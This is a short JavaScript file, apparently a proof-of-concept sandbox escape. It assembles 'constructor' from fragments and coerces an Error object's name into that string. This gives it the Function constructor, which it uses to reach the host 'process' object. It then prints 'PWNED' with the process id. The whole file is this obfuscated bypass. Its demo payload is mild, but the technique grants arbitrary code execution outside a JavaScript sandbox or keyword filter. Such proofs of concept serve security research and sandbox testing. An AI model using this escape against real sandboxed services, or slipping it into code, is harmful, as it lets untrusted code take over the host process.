'use strict';
const w = ['con', 'structor'].join('');
const fn = (x) => x;
const a = { name: w };
const b = { ...a };
const e = Object.assign(new Error(''), b);
console.log('PWNED', fn[String(e)]('return process')().pid);
